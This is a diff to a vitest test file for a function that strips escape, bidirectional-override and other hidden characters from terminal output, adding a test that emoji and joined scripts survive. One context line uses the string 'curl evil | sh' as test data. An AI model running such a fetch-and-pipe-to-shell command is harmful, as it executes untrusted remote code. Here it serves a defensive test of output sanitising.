@@ -1,4 +1,5 @@
 import { expect, test } from "vitest";
+import { hiddenCharacters, joinedTexts } from "../../../test/hidden-characters.ts";
 import { writeRefusal } from "../../api/client.ts";
 import { Fault } from "../../fault.ts";
 import { createPaint, exitCodeOfError, inFlagWords, visible } from "./tell.ts";
@@ -25,6 +26,11 @@ test.each([
   expect(shown).toContain("curl evil | sh");
   // biome-ignore lint/suspicious/noControlCharactersInRegex: these must be removed.
   expect(shown).not.toMatch(/[\u001b\u0007\u202e\u2066]/);
+});
+
+test("hidden characters are not printed, and what emoji and scripts need is", () => {
+  for (const character of hiddenCharacters) expect(visible(`x${character}y`).replace(" ", "")).toBe("xy");
+  for (const text of joinedTexts) expect(visible(text)).toBe(text);
 });
 
 test("a style of ours that was cut off ends with the text", () => {
